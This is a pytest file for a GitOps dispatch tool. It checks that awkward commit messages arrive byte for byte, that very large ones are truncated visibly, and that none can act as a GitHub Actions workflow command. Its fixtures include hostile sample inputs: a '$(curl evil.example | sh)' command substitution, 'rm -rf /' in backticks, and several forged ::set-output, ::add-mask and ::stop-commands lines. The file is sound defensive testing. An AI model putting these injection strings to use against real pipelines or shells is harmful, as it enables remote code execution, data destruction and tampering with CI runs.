"""Commit messages that broke the article's shell-concatenated JSON: each must
reach the GitOps repo byte for byte (or visibly cut), the one-line commitmsg
must be what git prints, and none may reach the runner as a workflow command."""
import json

import pytest

from dispatch_util import APP, GITOPS, SHA, check_commands, git_subject, push_event, step_env
from fakegh import DISPATCH_MAX, fake_github  # noqa: F401  (pytest fixture)

MESSAGES = {
    "double-quote": 'Fix "login" page',
    "backslash": "path C:\\temp\\new and \\n literally",
    "newlines": "subject line\n\nbody line 1\nbody line 2\n",
    "crlf": "windows subject\r\n\r\nbody\r\n",
    "backticks": "run `rm -rf /` and ``code``",
    "command-substitution": "$(curl evil.example | sh) and ${HOME}",
    "pipe-amp": "a | b && c & d || e ; f > g < h",
    "percent": "100% done, %s %d %n %0A %25",
    "set-output": "::set-output name=image::evil\n::set-env name=X::y",
    "add-mask": "::add-mask::hide-this\n  ::add-mask::indented",
    "error-command": "::error file=x,line=1::fake error\n::stop-commands::x",
    "unicode-indented": "\u3000::warning::ideographic space\n\u00a0::notice::nbsp\n\u2028::debug::ls",
    "old-syntax": "##[error]old style\nx ##[set-output name=a;]b",
    "heredoc-like": "payload<<EOF\nevil=1\nEOF\nghadelimiter_0123",
    "korean": "로그인 페이지 수정 (한글 커밋 메시지)",
    "emoji": "🚀 deploy 🎉 with ZWJ 👩‍💻 and flags 🇰🇷",
    "json-breaker": '", "baseRef": "master", "x": "',
    "sed-breaker": "a|b&c\\1 </lastCommitMsg> s|x|y|",
    "tabs-controls": "tab\there\x07bell\x1b[31mred\x7f",
    "leading-blank-lines": "\n\n  indented subject  \nwrapped title\n\nbody",
    "empty": "",
}


@pytest.fixture
def fake(fake_github):  # noqa: F811
    fake_github.add_repo(GITOPS)
    return fake_github


@pytest.mark.parametrize("name", sorted(MESSAGES))
def test_message_arrives_exactly(gb, fake, tmp_path, name):
    message = MESSAGES[name]
    ev = push_event(tmp_path, message=message)
    r = gb([], step_env(ev, fake))
    assert r.returncode == 0, r
    [d] = fake.dispatches(GITOPS)
    p = d["client_payload"]
    assert p["source"]["message"] == message
    assert p["commitmsg"] == SHA[:7] + " " + git_subject(message.encode())
    assert set(p) == {"service", "environment", "commitmsg", "baseRef", "source"}
    assert p["baseRef"] == "sandbox" and p["environment"] == "sandbox"
    assert json.loads(r.outputs()["payload"]) == p
    check_commands(r)


@pytest.mark.parametrize("name", ["set-output", "add-mask", "error-command",
                                  "unicode-indented", "old-syntax", "tabs-controls"])
def test_injection_shown_but_inert(gb, tmp_path, name):
    """In a dry run the whole body is printed to the log: still no command."""
    ev = push_event(tmp_path, message=MESSAGES[name])
    r = gb(["--dry-run"], step_env(ev), token=None)
    assert r.returncode == 0, r
    cmds = [c for c in __import__("dispatch_util").runner_commands(r.stdout)]
    assert {c for c, _ in cmds} <= {"group", "endgroup", "stop-commands"}, cmds


def test_invalid_utf8_arrives_as_replacement_characters(gb, fake, tmp_path):
    raw = b"caf\xe9 \xff\xfe ok \xe2\x82 end \xed\xa0\x80 \xf0\x9f\x9a\x80"
    ev = push_event(tmp_path, message=raw)
    r = gb([], step_env(ev, fake))
    assert r.returncode == 0, r
    p = fake.dispatches(GITOPS)[0]["client_payload"]
    assert p["source"]["message"] == raw.decode("utf-8", "replace")
    assert p["commitmsg"] == SHA[:7] + " " + raw.decode("utf-8", "replace")
    # counted once for the message (the subject is derived from the fixed text)
    n = raw.decode("utf-8", "replace").count("\ufffd")
    assert "%d invalid UTF-8 sequence(s) in the payload's text sent as U+FFFD" % n in r.out
    check_commands(r)


@pytest.mark.parametrize("unit", ["abcdefghij\n", "\"\\\"\\\n", "한글🚀\n", "\x01\x02\n"])
def test_100kb_message_is_cut_visibly(gb, fake, tmp_path, unit):
    message = "Big change\n\n" + unit * (100 * 1024 // len(unit.encode()) + 1)
    assert len(message.encode()) > 100 * 1024
    ev = push_event(tmp_path, message=message)
    r = gb([], step_env(ev, fake))
    assert r.returncode == 0, r
    [req] = fake.requests("POST")
    assert len(req["body"]) < DISPATCH_MAX
    assert len(req["body"]) > DISPATCH_MAX - 64  # cut, not starved
    got = fake.dispatches(GITOPS)[0]["client_payload"]["source"]["message"]
    mark = "\n\n[gitops-bump: message truncated, %d bytes in full]" % len(message.encode())
    assert got.endswith(mark)
    kept = got[:-len(mark)]
    assert message.startswith(kept)
    assert "commit message cut to %d of %d bytes" % (len(kept.encode()), len(message.encode())) in r.out
    assert "was cut to %d of %d bytes" % (len(kept.encode()), len(message.encode())) in r.summary
    p = fake.dispatches(GITOPS)[0]["client_payload"]
    assert p["commitmsg"] == SHA[:7] + " Big change"
    check_commands(r)


def test_100kb_single_line_cuts_the_subject_too(gb, fake, tmp_path):
    message = "x" * (100 * 1024)
    ev = push_event(tmp_path, message=message)
    r = gb([], step_env(ev, fake))
    assert r.returncode == 0, r
    p = fake.dispatches(GITOPS)[0]["client_payload"]
    assert p["commitmsg"].startswith(SHA[:7] + " xxxx")
    assert p["commitmsg"].endswith("x [gitops-bump: truncated]")
    assert p["source"]["message"].endswith("bytes in full]")
    assert len(fake.requests("POST")[0]["body"]) < DISPATCH_MAX


def test_message_from_the_api_is_exact_too(gb, fake, tmp_path):
    fake.add_repo(APP)
    message = MESSAGES["json-breaker"] + "\n\n" + MESSAGES["korean"] + MESSAGES["emoji"]
    sha = fake.add_commit(APP, message)
    env = step_env(None, fake, event="workflow_dispatch")
    env["GITHUB_SHA"] = sha
    r = gb([], env)
    assert r.returncode == 0, r
    assert fake.dispatches(GITOPS)[0]["client_payload"]["source"]["message"] == message
